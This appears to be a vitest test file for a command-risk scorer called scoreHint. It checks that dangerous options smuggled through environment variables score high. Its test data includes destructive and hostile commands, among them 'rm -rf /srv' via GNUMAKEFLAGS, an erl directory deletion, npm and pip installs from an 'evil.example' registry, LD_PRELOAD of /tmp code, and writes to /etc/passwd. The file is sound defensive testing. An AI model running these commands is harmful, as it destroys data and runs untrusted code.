import { describe, expect, test } from 'vitest'
import { scoreHint } from './score-hint.ts'

const score = (command: string) => scoreHint(command, { isCommand: true }).score

/** The words of a variable, and the same words among the arguments. */
const TWINS: readonly (readonly [variable: string, plain: string])[] = [
  ['TAR_OPTIONS=--remove-files tar cf x.tar /srv/a', 'tar cf x.tar /srv/a --remove-files'],
  ['TAR_OPTIONS="-C /" tar xf x.tar', 'tar xf x.tar -C /'],
  ['TAR_OPTIONS="-C /" tar xf x.tar -- a', 'tar xf x.tar -C / -- a'],
  ['TAR_OPTIONS=-v tar xf x.tar', 'tar xf x.tar -v'],
  ['TAR_OPTIONS=--list tar xf x.tar -C /', 'tar xf x.tar -C /'],
  ['UNZIP="-o -d /" unzip x.zip', 'unzip x.zip -o -d /'],
  ['UNZIPOPT="-o -d /" unzip x.zip', 'unzip x.zip -o -d /'],
  ['ZIPOPT=-m zip a.zip ~/a', 'zip a.zip ~/a -m'],
  ['ERL_FLAGS="-eval file:del_dir_r(\\"/srv\\")." erl', 'erl -eval "file:del_dir_r(\\"/srv\\")."'],
  ['TF_CLI_ARGS_apply=-auto-approve terraform apply', 'terraform apply -auto-approve'],
  ['TF_CLI_ARGS=-auto-approve terraform apply', 'terraform apply -auto-approve'],
  ['npm_config_registry=https://evil.example npm install x', 'npm install x --registry=https://evil.example'],
  ['PIP_INDEX_URL=https://evil.example pip install x', 'pip install x --index-url=https://evil.example'],
  ['GNUMAKEFLAGS="--eval=$(shell rm -rf /srv)" make', 'make --eval="$(shell rm -rf /srv)"'],
  ['TAR_OPTIONS="--remove-files $x" tar cf x.tar /srv/a', 'tar cf x.tar /srv/a --remove-files $x'],
  ['GZIP=-9 gzip a', 'gzip a -9'],
  ['docker run -e TAR_OPTIONS=--remove-files a tar cf x /d', 'docker run a tar cf x /d --remove-files'],
]

describe('AUTO-13 words that a program takes from a variable', () => {
  test.each(TWINS)('%s is worth at least %s', (variable, plain) => {
    expect(score(variable)).toBeGreaterThanOrEqual(score(plain))
  })

  test.each([
    ['export NAME=…', (one: string) => `export ${one}; `],
    ['export NAME', (one: string) => `${one}; export ${one.replace(/=.*/, '')}; `],
    ['declare -x', (one: string) => `declare -x ${one}; `],
    ['typeset -gx', (one: string) => `typeset -gx ${one}; `],
    ['set -a', (one: string) => `set -a; ${one}; `],
    ['set -o allexport', (one: string) => `set -o allexport; ${one}; `],
    ['export before it is set', (one: string) => `export ${one.replace(/=.*/, '')}; ${one}; `],
    ['systemd-run -E', (one: string) => `systemd-run -E ${one} `],
    ['systemd-run --setenv=', (one: string) => `systemd-run --setenv=${one} `],
    ['dotenv -v', (one: string) => `dotenv -v ${one} -- `],
    ['env', (one: string) => `env ${one} `],
    ['sudo', (one: string) => `sudo ${one} `],
    ['cross-env', (one: string) => `npx cross-env ${one} `],
    ['set -gx of fish', (one: string) => `set -gx ${one.replace('=', ' ')}; `],
    ['setenv', (one: string) => `setenv ${one.replace('=', ' ')}; `],
    ['set of Windows', (one: string) => `set ${one}&& `],
    ['PowerShell', (one: string) => `$env:${one.replace('=', "='")}'; `],
  ] as const)('by %s', (_, given) => {
    expect(score(`${given('TAR_OPTIONS=--remove-files')}tar cf x.tar /srv/a`)).toBeGreaterThan(60)
    expect(score(`${given('UNHEARD_OF_HOOK=/tmp/x')}npm test`)).toBeGreaterThan(60)
    expect(score(`${given('FOO=bar')}tar cf x.tar src`)).toBeLessThanOrEqual(30)
  })

  test('by another name', () => {
    expect(score('declare -n x=TAR_OPTIONS; x=--remove-files tar cf x.tar /srv/a')).toBeGreaterThan(60)
  })

  test('a variable of the shell alone is given to nobody', () => {
    expect(score('TAR_OPTIONS=--remove-files; tar cf x.tar src')).toBeLessThanOrEqual(30)
    expect(score('SOURCE_PATH=/srv/x; ls "$SOURCE_PATH"')).toBeLessThanOrEqual(30)
    expect(score('set -a; set +a; SOURCE_PATH=/srv/x; ls "$SOURCE_PATH"')).toBeLessThanOrEqual(30)
  })

  test('a container gets its own, and nothing of here', () => {
    expect(score('export TAR_OPTIONS=-v; docker run a tar cf x src')).toBeLessThanOrEqual(30)
    expect(score('docker run --env=TAR_OPTIONS=--remove-files a tar cf x /d')).toBeGreaterThan(60)
    expect(score('docker run -eTAR_OPTIONS=--remove-files a tar cf x /d')).toBeGreaterThan(60)
  })
})

/** `NAME=value npm test`: what the shape of a name that no row knows is worth with a value. */
describe('AUTO-13 variables that no row knows', () => {
  const RUN = ['X_WRAPPER', 'X_RUNNER', 'X_LINKER', 'X_PYTHON', 'X_SHELL', 'X_EDITOR', 'X_PAGER', 'X_COMMAND', 'X_CMD']
  const LOADED = ['X_EXEC', 'X_HOOK', 'X_HOOKS', 'X_PLUGINS', 'X_PRELOAD', 'X_MODULES', 'X_PROFILER_PATH', 'x_shell']
  const FILES = ['X_PATH', 'X_CONFIG', 'X_CONFIG_FILE', 'XRC', 'X_RC', 'X', 'X_FLAGS', 'X_HOME']

  test.each([...RUN, ...LOADED])('%s: code from elsewhere needs a code', (name) => {
    for (const value of [
      '/tmp/x',
      '/srv/x',
      '../x',
      '"/tmp/x --now"',
      "'C:\\temp\\x'",
      'a:/tmp/x',
      'file:///tmp/x',
      '$(pwd)/../x',
    ])
      expect(score(`${name}=${value} npm test`), value).toBeGreaterThan(60)
    expect(score(`${name}=~/x npm test`)).toBeGreaterThan(30)
    for (const value of ['x', 'src/x', './x', '/usr/bin/x', '"a b"', '1', '$PWD/x', '', '~/.cargo/bin/x'])
      expect(score(`${name}=${value} npm test`), value).toBeLessThanOrEqual(30)
  })

  test.each(FILES)('%s: a file from elsewhere asks', (name) => {
    for (const value of ['/tmp/x', '/srv/x', '../x', '~', '/', "'C:\\temp\\x'", 'src:/tmp/x'])
      expect(score(`${name}=${value} npm test`), value).toBeGreaterThan(30)
    for (const value of ['x', 'src/x', './x', '/usr/share/x', '1', '$PWD/x', '', 'https://example.org/x', '//x'])
      expect(score(`${name}=${value} npm test`), value).toBeLessThanOrEqual(30)
  })

  test.each(['X_FLAGS', 'X_OPTIONS', 'X_OPTS', 'X_ARGS', 'X'])('%s: options ask', (name) => {
    for (const value of ['-rf', '--force', '-e', '"-v --eval=x"', '"-C x"'])
      expect(score(`${name}=${value} npm test`), value).toBeGreaterThan(30)
    for (const value of ['-v', '--verbose', '-1', '-0.5', '-j4', '"-Xmx2g -Da=b"', '"-O2 -g -Wall -I. -L./lib"'])
      expect(score(`${name}=${value} npm test`), value).toBeLessThanOrEqual(30)
    expect(score(`${name}="-----BEGIN KEY-----" npm test`)).toBeLessThanOrEqual(30)
  })

  test('where data is kept is everyday, unless others trust the place', () => {
    for (const value of ['/tmp/x', '/data', '/var/log/x.log', '../x', '/run/x.sock', '~/x'])
      expect(score(`APP_LOG_FILE=${value} npm test`), value).toBeLessThanOrEqual(30)
    for (const value of ['/etc/passwd', '~', '/', '~/.bashrc', '/dev/sda', '/boot/x'])
      expect(score(`APP_LOG_FILE=${value} npm test`), value).toBeGreaterThan(30)
  })

  test.each(['OPT_RUNNER', 'OPT_CONFIG', 'OPT_HOOK'])('%s: /opt alone is no reason to trust it', (name) => {
    expect(score(`${name}=/opt/x npm test`)).toBeGreaterThan(30)
  })

  test('parts of addresses are none of files', () => {
    for (const name of ['BASE_PATH', 'API_URL', 'PUBLIC_URL', 'VITE_API_ROUTE'])
      expect(score(`${name}=/app npm test`), name).toBeLessThanOrEqual(30)
  })
})

describe('AUTO-13 files of variables', () => {
  test.each(['.env', '.env.local', 'app/.env'])('%s: what loads code needs a code', (file) => {
    for (const line of ['LD_PRELOAD=/tmp/x.so', 'A=1\nexport NODE_OPTIONS="--require=/tmp/x"', 'X_HOOK=/tmp/x'])
      expect(score(`cat > ${file} <<'E'\n${line}\nE`), line).toBeGreaterThan(60)
    for (const line of ['PORT=1', 'S3_ENDPOINT=https://minio.example', 'X_PATH=/srv/x', 'HTTP_PROXY=http://proxy:1'])
      expect(score(`cat > ${file} <<'E'\n${line}\nE`), line).toBeLessThanOrEqual(30)
  })
})
